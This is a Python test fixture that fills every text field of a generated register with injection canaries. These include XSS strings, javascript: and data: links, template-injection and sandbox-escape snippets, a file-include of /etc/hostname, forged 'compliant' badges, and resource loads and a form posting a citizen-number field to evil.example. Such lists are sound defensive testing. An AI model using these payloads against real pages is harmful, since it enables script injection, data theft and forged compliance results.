"""A register with something nasty in every text field: what a page must show as text and never run, load or forge."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from grondslag.model.kinds import FieldKind, Model, RecordKind

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    "<details open ontoggle=alert(4)>",
    "[x](javascript:alert(5))",
    "[x](java&#115;cript:alert(6))",
    "<iframe src=https://evil.example/></iframe>",
    "![](https://evil.example/pixel)",
    "<style>body{background:url(https://evil.example/s)}</style>",
    "<form action=https://evil.example/><input name=bsn></form>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "[x](y){: onclick=alert(7)}",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    '--8<-- "/etc/hostname"',
    "a | b |\n| vervalst | voldoet |\n",
    '# Nep-kop voldoet\n<h1 class="badge compliant">voldoet</h1>',
    '"><td class="badge compliant">voldoet</td><tr>',
    "' onfocus=alert(8) autofocus x='",
    "</code></pre></article><article class=verdict>",
    "gewoon \u202e teskcat",
    "<a href=javascript:alert(9)>x</a>",
    "&lt;script&gt;alert(10)&lt;/script&gt;",
)
LINKS = (
    "javascript:alert(11)",
    "https://user:pass@evil.example/",
    "data:text/html,<script>alert(12)</script>",
    "//evil.example/x",
    'https://evil.example/" onmouseover="alert(13)',
)


class _Turn:
    """Gives the payloads in turn, so that each stands in many fields."""

    def __init__(self) -> None:
        self._text = self._link = 0

    def text(self) -> str:
        self._text += 1
        return PAYLOADS[self._text % len(PAYLOADS)]

    def link(self) -> str:
        self._link += 1
        return LINKS[self._link % len(LINKS)]


def write_register(folder: Path, model: Model) -> None:
    """Writes a register whose every text is a canary; codes, days and references are of the right form."""
    turn = _Turn()
    data: dict[str, Any] = {"language": "en"}
    for name, kind in model.collections.items():
        if kind.defaults_for is not None:
            continue
        if kind.single:
            data[name] = dict(_fields(model, kind.entry, turn, 0))
            continue
        # Breaches and requests are pseudonymous: an address of mail there is refused, and none is in a payload.
        data[name] = {
            f"{name}-{number}": dict(_fields(model, kind.entry, turn, 0)) for number in (1, 2, 3)
        }
    data["processing"]["<img src=x onerror=alert(14)>"] = dict(data["processing"]["processing-1"])
    (folder / "register.yaml").write_text(json.dumps(data, indent=1), encoding="utf-8")


def _fields(model: Model, kind: RecordKind, turn: _Turn, depth: int) -> Iterator[tuple[str, Any]]:
    for name, field in kind.fields.items():
        value = _value(model, field, turn, depth)
        if value is not None:
            yield name, value


def _value(model: Model, field: FieldKind, turn: _Turn, depth: int) -> Any:
    match field.type:
        case "text":
            return turn.text()
        case "texts":
            return [turn.text(), turn.text()]
        case "link":
            return turn.link()
        case "links":
            return [turn.link(), turn.text()]
        case "enum" | "set" if field.enum:
            code = next(iter(model.enums[field.enum].codes))
            return code if field.type == "enum" else [code]
        case "ref" | "refs" if field.refs:
            found = f"{field.refs[0]}-1"
            return found if field.type == "ref" else [found, turn.text()]
        case "record" if depth < 3 and field.record:
            return dict(_fields(model, model.records[field.record], turn, depth + 1))
        case "map" if depth < 3 and field.record:
            record = model.records[field.record]
            return {
                "one": dict(_fields(model, record, turn, depth + 1)),
                '"><script>alert(15)</script>': dict(_fields(model, record, turn, depth + 1)),
            }
        case "yes_no":
            return False
        case "date":
            return "2026-01-02"
        case "datetime":
            return "2026-01-02T10:00+01:00"
        case "country":
            return "US"
        case "countries":
            return ["US"]
        case "duration":
            return "2 years"
        case "integer" | "number":
            return 3
    return None
